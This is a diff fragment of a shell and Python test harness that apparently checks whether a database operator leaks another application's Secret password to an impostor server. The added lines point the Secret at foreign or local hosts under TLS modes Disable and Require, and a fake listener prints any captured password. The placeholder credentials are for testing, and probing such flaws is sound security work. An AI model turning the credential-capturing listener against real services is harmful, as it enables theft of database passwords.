@@ -34,6 +34,8 @@ while True:
         print('PASSWORD', read(c, n - 4).rstrip(b'\0').decode(), flush=True); c.close()
     except Exception as e: print('end', type(e).__name__, e, flush=True); c.close()
 PY
+# the Secret is another application's: it says for which host, and the DatabaseServer's author cannot change that
+printf db.other-application.svc >dump/host
 printf app >dump/username; printf 'hunter2-of-another-application' >dump/password
 try() { # LABEL plain|tls TLSJSON
   local port
@@ -47,3 +49,7 @@ try "tls.mode Disable" plain '{"mode":"Disable"}'
 try "tls.mode Require, any certificate" tls '{"mode":"Require"}'
 try "tls.mode VerifyFull, the attacker's own CA in caFile" tls '{"mode":"VerifyFull","caFile":"'"$W"'/ca.pem"}'
 try "tls.mode VerifyFull, the right CA" tls '{"mode":"VerifyFull","caFile":"'"$PGSSLROOTCERT"'"}'
+# the Secret is for this very host, and somebody else answers there
+printf 127.0.0.1 >dump/host
+try "tls.mode Disable, a Secret for this host" plain '{"mode":"Disable"}'
+try "tls.mode Require, a Secret for this host" tls '{"mode":"Require"}'
